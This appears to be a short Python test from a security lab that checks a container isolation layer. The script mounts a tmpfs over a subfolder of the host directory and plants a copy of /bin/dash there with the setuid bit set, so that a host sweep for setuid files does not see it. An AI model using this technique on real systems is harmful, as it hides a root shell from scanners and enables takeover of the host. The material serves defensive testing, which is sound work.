# lab:title: a setuid file in the host folder the sweep does not see: on a mount over a subfolder (root lab)
# lab:threat: takeover
# lab:layer: isolation
# lab:consequence: test
import os, shutil
host = os.path.dirname(os.path.dirname(os.path.dirname(os.environ['LAB_HOST_TARGET'])))
def plant(d):
    os.makedirs(d, exist_ok=True)
    p = os.path.join(d, 'sh')
    shutil.copy('/bin/dash', p)
    os.chmod(p, 0o4755)
    print('planted', p, oct(os.stat(p).st_mode), flush=True)
    return p
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs(host + '/m')                    # root lab: uid 0 with CAP_SYS_ADMIN over the range's mount ns
print('mount', libc.mount(b'tmpfs', (host + '/m').encode(), b'tmpfs', 0, None), ctypes.get_errno())
p = plant(host + '/m')                      # the lab reads the tmpfs through its fd: mounts on top are not there
